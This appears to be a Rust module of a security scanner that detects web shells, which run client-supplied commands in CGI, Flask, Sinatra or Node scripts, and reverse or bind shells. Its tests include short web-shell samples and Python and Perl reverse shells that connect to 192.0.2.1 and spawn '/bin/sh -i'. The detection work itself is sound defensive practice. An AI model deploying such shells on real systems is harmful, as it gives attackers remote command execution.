//! Scripts of CGI programs and of frameworks of Perl, Python, Ruby and Node.js in files that hand what a client sends to
//! a shell or an interpreter.
//!
//! Lines are read as assignments and calls. Only a command or a program that the client sends as a whole counts:
//! applications pass parts of requests as arguments, web shells run them.

use super::super::work;
use memchr::memmem;
use regex::bytes::Regex;
use std::sync::LazyLock;

/// Names of what a client sends, in lower case; members of them are too.
const SOURCES: &[&str] = &[
    "request.args",
    "request.form",
    "request.values",
    "request.get.get",
    "request.post.get",
    "request.data",
    "request.json",
    "request.get_json",
    "request.query",
    "request.body",
    "request.query_params",
    "flask.request",
    "req.query",
    "req.body",
    "req.params",
    "ctx.query",
    "ctx.request.body",
    "ctx.request.query",
    "form.getvalue",
    "form.getfirst",
    "self.get_argument",
    "cgi.fieldstorage",
    "$cgi.param",
    "$q.param",
    "$query.param",
    "url.parse",
    "parse_qs",
    "urllib.parse.parse_qs",
    "urlparse.parse_qs",
    "querystring.parse",
    "self.path",
    "self.rfile.read",
    "$env.query_string",
    "os.environ.query_string",
];
/// Names of what a client sends in a CGI program.
const CGI_SOURCES: &[&str] = &["param", "params", "cgi.params", "cgi"];
/// Calls that run a command or code, in lower case.
const SINKS: &[&str] = &[
    "os.system",
    "os.popen",
    "os.popen2",
    "os.popen3",
    "os.execl",
    "os.spawnl",
    "subprocess.popen",
    "subprocess.call",
    "subprocess.run",
    "subprocess.check_output",
    "subprocess.check_call",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "popen",
    "check_output",
    "getoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
    "pty.spawn",
    "exec",
    "eval",
    "execfile",
    "system",
    "qx",
    "execsync",
    "spawnsync",
    "child_process.exec",
    "child_process.execsync",
    "child_process.spawn",
    "cp.exec",
    "cp.execsync",
    "spawn",
    "new.function",
    "vm.runinnewcontext",
    "vm.runinthiscontext",
    "instance_eval",
    "kernel.exec",
    "io.popen",
    "open3.capture2e",
];
const SOURCE_WORDS: &str = r"request\.|req\.[qbp]|param\(|params|FieldStorage|QUERY_STRING|get_argument|ctx\.|parse_qs|url\.parse|getvalue|getfirst|form\[|self\.path|self\.rfile";
/// A decorator with which a framework of Python hands requests to a function, whose parameters come from the client then.
const ROUTE: &str = r"@\w+\.(?:get|post|put|route|api_route|websocket)\(";
const SINK_WORDS: &str = r"system|[pP]open|exec|eval|subprocess|spawn|qx|getoutput|Function\(|`";
/// Words of sources and of sinks, without both of which a script is of no interest.
static HINTS: LazyLock<[Regex; 2]> = LazyLock::new(|| {
    [&format!("{SOURCE_WORDS}|{ROUTE}"), SINK_WORDS].map(|words| Regex::new(words).expect("a pattern of literals"))
});
/// Words of lines that are read: of sources, of sinks and of definitions of functions.
static INTEREST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!("{SOURCE_WORDS}|{ROUTE}|{SINK_WORDS}|def |function |sub ")).expect("a pattern of literals")
});
/// [`ROUTE`] at the beginning of a line.
static ROUTED: LazyLock<Regex> = LazyLock::new(|| Regex::new(&format!("^{ROUTE}")).expect("a pattern of literals"));
/// Most names that are followed.
const MAX_NAMES: usize = 64;
/// Longest line that is read.
const MAX_LINE: usize = 2048;

/// Where a script hands what a client sends to what executes it, or connects a shell with a client.
pub(super) fn find(content: &[u8]) -> Option<usize> {
    runs_request(content).or_else(|| gives_shell(content))
}

/// Where a script makes a connection the input and output of a shell: a reverse or bind shell.
fn gives_shell(content: &[u8]) -> Option<usize> {
    /// Calls that replace a standard stream, in Python and in Perl.
    const REDIRECTIONS: &[&[u8]] = &[b"dup2(", b"open(STDIN"];
    const SHELLS: &[&[u8]] = &[b"/bin/sh", b"/bin/bash", b"/bin/zsh", b"/bin/dash", b"pty.spawn", b"cmd.exe"];
    const CONNECTIONS: &[&[u8]] = &[b"socket(", b"socket.socket", b"Socket::INET", b"create_connection("];
    /// Bytes around a redirection among which the others are.
    const AROUND: usize = 600;
    const MOST: usize = 8;
    REDIRECTIONS.iter().find_map(|call| {
        memmem::find_iter(content, call).take(MOST).find(|at| {
            let near = &content[at.saturating_sub(AROUND)..content.len().min(at + AROUND)];
            let behind = &content[*at..content.len().min(at + 48)];
            work::count(2 * near.len());
            let has = |words: &[&[u8]]| words.iter().any(|word| memmem::find(near, word).is_some());
            let stream = memmem::find(behind, b".fileno()").is_some() || memmem::find(behind, b">&").is_some();
            stream && has(SHELLS) && has(CONNECTIONS)
        })
    })
}

/// Where a script hands what a client sends to what executes it.
fn runs_request(content: &[u8]) -> Option<usize> {
    if !HINTS.iter().all(|words| words.is_match(content)) {
        return None;
    }
    let has = |hints: &[&[u8]]| hints.iter().any(|hint| memmem::find(content, hint).is_some());
    const CGI: &[&[u8]] = &[
        b"#!/usr/bin/perl",
        b"#!/usr/bin/env perl",
        b"#!/usr/local/bin/perl",
        b"use CGI",
        b"sinatra",
        b"#!/usr/bin/ruby",
        b"#!/usr/bin/env ruby",
    ];
    let mut script = Script { is_cgi: has(CGI), ..Script::default() };
    for second in [false, true] {
        let mut read = 0;
        for word in INTEREST.find_iter(content) {
            if word.start() < read {
                continue;
            }
            let is_end = |b: &u8| matches!(b, b'\n' | b';');
            let before = &content[read..word.start()];
            let start = before.iter().rposition(is_end).map_or(read, |at| read + at + 1);
            let rest = &content[word.start()..];
            read = word.start() + rest.iter().position(is_end).unwrap_or(rest.len());
            if script.line(&content[start..read.min(start + MAX_LINE)]) && second {
                return Some(start);
            }
        }
    }
    None
}

#[derive(Default)]
struct Script {
    /// Whether it is a CGI program, whose language has commands in backticks.
    is_cgi: bool,
    /// Names that hold what a client sends.
    tainted: Vec<String>,
    /// Functions that execute their argument.
    sinks: Vec<String>,
    /// The function that was opened last, and its parameters.
    function: (String, Vec<String>),
    /// Whether the line before makes the next function one that answers requests.
    is_routed: bool,
}

impl Script {
    /// Reads a line. True if it executes what a client sends.
    fn line(&mut self, line: &[u8]) -> bool {
        let text = line.trim_ascii();
        if text.starts_with(b"#") || text.starts_with(b"//") {
            return false;
        }
        let tokens = tokens(text);
        self.is_routed |= ROUTED.is_match(text);
        self.definition(&tokens);
        let found = self.calls(&tokens) || self.is_cgi && self.backticks(text);
        self.assignment(&tokens);
        found
    }

    /// `def name(a, b)`, `function name(a, b)`, `sub name`.
    fn definition(&mut self, tokens: &[Token<'_>]) {
        let at = tokens.iter().position(|token| matches!(token, Token::Name(name) if is_definition(name)));
        if let Some(Token::Name(name)) = at.and_then(|at| tokens.get(at + 1)) {
            let names = tokens.iter().skip(at.unwrap_or(0) + 2);
            let parameters = names.filter_map(|token| match token {
                Token::Name(name) => Some(name.to_ascii_lowercase()),
                _ => None,
            });
            self.function = (name.to_ascii_lowercase(), parameters.take(8).collect());
            if std::mem::take(&mut self.is_routed) && self.tainted.len() < MAX_NAMES {
                // Names of types and defaults are among them, which nothing runs.
                self.tainted.extend(self.function.1.iter().cloned());
            }
        }
    }

    /// Whether a call of the line executes what a client sends.
    fn calls(&mut self, tokens: &[Token<'_>]) -> bool {
        for (at, token) in tokens.iter().enumerate() {
            let Token::Name(name) = token else { continue };
            let mut name = name.to_ascii_lowercase();
            let previous = at.checked_sub(1).map(|at| &tokens[at]);
            if matches!(previous, Some(Token::Name(before)) if is_definition(before)) {
                continue;
            }
            if matches!(previous, Some(Token::Name(before)) if *before == "new") {
                name = format!("new.{name}");
            }
            let known = SINKS.contains(&name.as_str()) || self.sinks.contains(&name);
            let argument =
                tokens[at + 1..].iter().find(|token| !matches!(token, Token::Other(b'(' | b'"' | b'\'' | b'`')));
            let Some(Token::Name(argument)) = argument.filter(|_| known) else { continue };
            let argument = argument.to_ascii_lowercase();
            if self.is_tainted(&argument) {
                return true;
            }
            if self.function.1.contains(&argument)
                && self.sinks.len() < MAX_NAMES
                && !self.sinks.contains(&self.function.0)
            {
                self.sinks.push(self.function.0.clone());
            }
        }
        false
    }

    /// Whether a command in backticks, which Perl and Ruby run, is what a client sends.
    fn backticks(&self, line: &[u8]) -> bool {
        // A file whose name ends in a bar is a command.
        if memmem::find(line, b"open").is_some() && memmem::find(line, b"|\"").is_some() {
            let names = tokens(line);
            return names.iter().any(|t| matches!(t, Token::Name(name) if self.is_tainted(&name.to_ascii_lowercase())));
        }
        let Some(start) = memchr::memchr(b'`', line) else { return false };
        let inside = line[start + 1..].trim_ascii_start();
        let inside = inside.strip_prefix(b"#{").unwrap_or(inside);
        matches!(tokens(inside).first(), Some(Token::Name(name)) if self.is_tainted(&name.to_ascii_lowercase()))
    }

    fn is_tainted(&self, name: &str) -> bool {
        let source =
            |source: &&str| name.strip_prefix(*source).is_some_and(|rest| rest.is_empty() || rest.starts_with('.'));
        let base = name.split('.').next().unwrap_or(name);
        SOURCES.iter().any(source)
            || self.is_cgi && CGI_SOURCES.contains(&name)
            || self.tainted.iter().any(|known| known == name || known == base)
    }

    /// `name = ... source ...`
    fn assignment(&mut self, tokens: &[Token<'_>]) {
        let is = |at: usize, bytes: &[u8]| matches!(tokens.get(at), Some(Token::Other(byte)) if bytes.contains(byte));
        let assigns = |at: &usize| is(*at, b"=") && !is(at + 1, b"=>") && !(*at > 0 && is(at - 1, b"=!<>"));
        let Some(equals) = (0..tokens.len()).find(assigns) else { return };
        let names = |tokens: &[Token<'_>]| -> Vec<String> {
            let names = tokens.iter().filter_map(|token| match token {
                Token::Name(name) => Some(name.to_ascii_lowercase()),
                _ => None,
            });
            names.collect()
        };
        let value = names(&tokens[equals + 1..]);
        // What a command prints, or a model finds, is not what was sent.
        let is_sent = value.iter().take(3).any(|name| self.is_tainted(name));
        if is_sent && self.tainted.len() < MAX_NAMES {
            let last = names(&tokens[..equals]).into_iter().rev().find(|name| !is_keyword(name));
            self.tainted.extend(last.filter(|name| !self.tainted.contains(name)));
        }
    }
}

fn is_definition(name: &str) -> bool {
    matches!(name, "def" | "function" | "sub")
}

fn is_keyword(name: &str) -> bool {
    matches!(name, "let" | "const" | "var" | "my" | "our" | "local" | "if" | "while")
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Token<'a> {
    /// A name, with the members that follow it.
    Name(&'a str),
    Other(u8),
}

/// Names and other bytes of a line. The key of a hash counts as a member.
fn tokens(line: &[u8]) -> Vec<Token<'_>> {
    let mut out = Vec::new();
    let mut at = 0;
    let is_name = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$');
    while let Some(&byte) = line.get(at) {
        if is_name(byte) {
            let length = line[at..].iter().take_while(|&&b| is_name(b) || b == b'.').count();
            let name = line[at..at + length].strip_suffix(b".").unwrap_or(&line[at..at + length]);
            at += length;
            // `$ENV{QUERY_STRING}` and its like.
            let is_query = line[at..].len() > 2 && line[at + 1..].iter().take(3).any(|b| *b == b'Q');
            let name = match name {
                b"$ENV" if is_query => &b"$env.query_string"[..],
                b"os.environ" | b"os.environ.get" | b"environ" | b"environ.get" if is_query => {
                    b"os.environ.query_string"
                }
                name => name,
            };
            out.extend(std::str::from_utf8(name).ok().map(Token::Name));
            continue;
        }
        if !byte.is_ascii_whitespace() {
            out.push(Token::Other(byte));
        }
        at += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_that_run_requests_are_found() {
        for script in [
            "#!/usr/bin/perl\nuse CGI;\nprint `param('c')`;\nsystem(param('c'));",
            "#!/usr/bin/perl\nmy $c = param('cmd');\nprint qx($c);\nprint `$c`;",
            "import cgi, os\nform = cgi.FieldStorage()\nprint(os.popen(form.getvalue('c')).read())",
            "from flask import request\ncmd = request.args.get('c')\nreturn subprocess.check_output(cmd, shell=True)",
            "def run(c):\n  return os.popen(c).read()\n@app.route('/')\ndef x():\n  return run(request.args['c'])",
            "app.get('/', (req, res) => { const c = req.query.c; require('child_process').exec(c, (e, o) => res.send(o)); })",
            "eval(req.body.code)",
            "#!/usr/bin/perl\n$c = $ENV{QUERY_STRING};\nsystem($c);",
            "require 'sinatra'\nget '/' do\n`#{params[:cmd]}`\nend",
            "def application(environ, start):\n  c = environ.get('QUERY_STRING', 'x')\n  return [os.popen(c).read()]",
            "class S(BaseHTTPRequestHandler):\n  def do_GET(self):\n    c = self.path[1:]\n    os.system(c)",
            "@app.get('/')\ndef shell(c: str = 'x'):\n  return os.popen(c).read()",
            "import socket,os,subprocess\ns=socket.socket()\ns.connect(('192.0.2.1',9))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
            "use Socket;\nsocket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");",
        ] {
            assert!(find(script.as_bytes()).is_some(), "{script}");
        }
    }

    #[test]
    fn scripts_of_applications_pass() {
        for script in [
            "name = request.args.get('name')\nreturn subprocess.run(['convert', name])",
            "app.get('/', (req, res) => { exec('git pull', (e, o) => res.send(o)); })",
            "const m = /a(b)/.exec(text); const q = req.query.q;",
            "cmd = ['ls']\nsubprocess.run(cmd)\nx = request.args",
            "#!/bin/sh\neval \"$1\"\n# request",
            "db.system.find(req.query)",
            "@app.get('/')\ndef convert(name: str):\n  return subprocess.run(['convert', name])",
            "@app.get('/')\ndef a(c: str):\n  return c\n\ndef b(d):\n  return os.popen(d).read()",
            "os.dup2(null.fileno(), 0)\nos.dup2(null.fileno(), 1)\nos.execv('/bin/sh', ['sh', script])",
            "class H(BaseHTTPRequestHandler):\n  def do_GET(self):\n    path = self.path\n    os.system('make')",
        ] {
            assert!(find(script.as_bytes()).is_none(), "{script}");
        }
    }
}
